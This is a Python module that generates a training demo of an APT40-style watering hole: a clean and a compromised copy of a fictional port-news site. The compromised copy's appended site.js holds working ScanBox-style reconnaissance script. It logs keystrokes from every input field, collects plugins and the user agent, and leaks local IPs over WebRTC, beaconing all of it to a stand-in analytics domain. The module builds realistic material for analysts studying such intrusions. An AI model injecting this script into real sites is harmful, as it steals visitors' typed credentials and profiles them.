"""The demo's watering hole: a saved copy of a partner site the analysts read.

APT40 compromises sites its targets visit and injects reconnaissance script (ScanBox). The
demo ships two copies of ``www.port-news.example``, the clean one from before and the one
saved during the incident: its ``js/site.js`` has recon code appended and its pages load a
script from a new third-party origin. The code is written for the demo: it has the shapes
of ScanBox-style collection (input key hooks, plugin list, WebRTC/STUN, ``/i/`` beacons)
and talks only to documentation domains.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

SITE_ORIGIN: Final = "https://www.port-news.example"
INJECTED_ORIGIN: Final = "https://stat.ports-analytics.example"

_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title} - Port News</title>
<link rel="stylesheet" href="/css/site.css">
<script src="/js/site.js"></script>
<script src="https://cdn.jsdelivr.example/npm/chart.js@4/dist/chart.umd.min.js"></script>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({{page: "{slug}"}});</script>
{extra}</head>
<body><header><a href="/">Port News</a> <form action="/search"><input name="q"></form>
</header><main><h1>{title}</h1><p>{body}</p></main></body></html>
"""
_PAGES = (
    ("index", "Shipping and port policy news", "Weekly notes on maritime trade policy."),
    ("south-china-sea-briefing", "Briefing: navigation rights",
     "Analysts compare recent rulings on freedom of navigation."),
    ("subscribe", "Subscribe", "Enter your work e-mail to receive the weekly digest."),
)
_SITE_JS = """function toggleMenu(){var m=document.getElementById('menu');
if(m){m.classList.toggle('open');}}
document.addEventListener('DOMContentLoaded',function(){var b=document.getElementById('mb');
if(b){b.addEventListener('click',toggleMenu);}});
"""
_RECON = """
;(function(){var u='https://stat.ports-analytics.example/i/';
var s=Math.random().toString(36).slice(2);
var f=document.getElementsByTagName('input');for(var i=0;i<f.length;i++){
f[i].addEventListener('keydown',function(e){(new Image()).src=u+'k.php?data='+
encodeURIComponent(s+'|'+e.target.name+'|'+e.key);});}
var p=[];for(var j=0;j<navigator.plugins.length;j++){p.push(navigator.plugins[j].name);}
try{var c=new RTCPeerConnection({iceServers:[{urls:'stun:stun.ports-analytics.example:3478'}]});
c.createDataChannel('x');c.onicecandidate=function(ev){if(ev.candidate){
(new Image()).src=u+'?'+s+'='+encodeURIComponent(ev.candidate.candidate);}};
c.createOffer().then(function(o){c.setLocalDescription(o);});}catch(err){}
(new Image()).src=u+'v.php?m='+encodeURIComponent(s+'|'+navigator.userAgent+'|'+p.join(','));
})();
"""
_CSS = "body{font-family:Georgia,serif;margin:0 auto;max-width:48em}header{padding:1em}\n"


def write_demo_site(out_dir: Path) -> tuple[Path, Path]:
    """Write ``baseline/`` (before) and ``incident/`` (saved during the incident).

    Returns (baseline folder, incident folder).
    """
    out = []
    for name, injected in (("baseline", False), ("incident", True)):
        root = out_dir / name
        (root / "js").mkdir(parents=True, exist_ok=True)
        (root / "css").mkdir(exist_ok=True)
        extra = f'<script async src="{INJECTED_ORIGIN}/t.js"></script>' if injected else ""
        for slug, title, body in _PAGES:
            (root / f"{slug}.html").write_text(
                _PAGE.format(title=title, slug=slug, body=body, extra=extra),
                encoding="utf-8")
        (root / "js" / "site.js").write_text(_SITE_JS + (_RECON if injected else ""),
                                             encoding="utf-8")
        (root / "css" / "site.css").write_text(_CSS, encoding="utf-8")
        out.append(root)
    return out[0], out[1]
